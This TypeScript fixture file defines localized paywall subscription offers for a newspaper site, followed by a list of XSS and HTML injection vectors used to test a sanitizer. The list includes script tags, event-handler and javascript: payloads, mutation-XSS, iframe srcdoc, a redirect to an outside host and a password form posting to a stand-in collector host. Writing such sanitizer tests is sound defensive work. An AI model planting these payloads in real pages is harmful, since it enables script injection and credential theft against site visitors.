import type { Language } from '#lib/site/config/config.ts'
import { price } from '#newspaper/content/prices.ts'
import type { PaywallFields } from './PaywallFields.ts'

/** Marketing's HTML as it usually comes: a heading, a list, a link. */
const offer = (heading: string, points: readonly string[], link: string): PaywallFields => ({
  subscriptionHtml: [
    `<h3>${heading}</h3>`,
    `<ul>${points.map((point) => `<li>${point}</li>`).join('')}</ul>`,
    `<p><a href="/tarifes" class="btn btn-primary">${link}</a></p>`,
  ].join('\n'),
})

export const offerHtml: Record<Language, PaywallFields> = {
  ca: offer(
    `Llegeix-ho tot per <strong>${price('firstMonth', 'ca')}</strong> el primer mes`,
    [
      'Tots els articles i l’hemeroteca',
      'Comentaris i butlletins',
      'Sense permanència: <em>te’n pots donar de baixa quan vulguis</em>',
    ],
    'Subscriu-t’hi',
  ),
  es: offer(
    `Léelo todo por <strong>${price('firstMonth', 'es')}</strong> el primer mes`,
    [
      'Todos los artículos y la hemeroteca',
      'Comentarios y boletines',
      'Sin permanencia: <em>te das de baja cuando quieras</em>',
    ],
    'Suscribirme',
  ),
  en: offer(
    `Read everything for <strong>${price('firstMonth', 'en')}</strong> in the first month`,
    ['All articles and the archive', 'Comments and newsletters', 'No commitment: <em>cancel whenever you like</em>'],
    'Subscribe',
  ),
  de: offer(
    `Alles lesen für <strong>${price('firstMonth', 'de')}</strong> im ersten Monat`,
    ['Alle Artikel und das Archiv', 'Kommentare und Newsletter', 'Ohne Mindestlaufzeit: <em>jederzeit kündbar</em>'],
    'Abonnieren',
  ),
}

/**
 * Known injection vectors: none may run a script, load from elsewhere, send a form or restyle the page. The words
 * “oferta segura” and the plain link are what must be left.
 */
export const hostileHtml = [
  '<p>Una <b>oferta segura</b> per a <a href="/tarifes">subscriptors</a></p>',
  '<script>window.__paywallHacked = "script"</script>',
  '<img src="x" onerror="window.__paywallHacked = \'onerror\'" alt="">',
  '<a href="javascript:window.__paywallHacked = \'link\'">Clica aquí</a>',
  '<a href="java&#10;script:window.__paywallHacked = \'split link\'">I aquí</a>',
  '<a href="data:text/html,<script>parent.__paywallHacked = 1</script>">I també aquí</a>',
  '<p onclick="window.__paywallHacked = \'onclick\'" style="position:fixed;inset:0;background:red">Tot vermell</p>',
  '<style>* { display: none !important }</style>',
  '<link rel="stylesheet" href="https://styles.example/all.css">',
  '<form action="https://collector.example/"><input name="password" type="password"><button>Envia</button></form>',
  '<svg onload="window.__paywallHacked = \'svg\'"><script>window.__paywallHacked = "svg script"</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__paywallHacked = \'mutation\'"></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.__paywallHacked = \'frame\'</script>"></iframe>',
  '<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
  '<div data-widget="poll" data-poll-id="4711"></div><p id="quiosc" name="quiosc">Clobber</p>',
].join('\n')
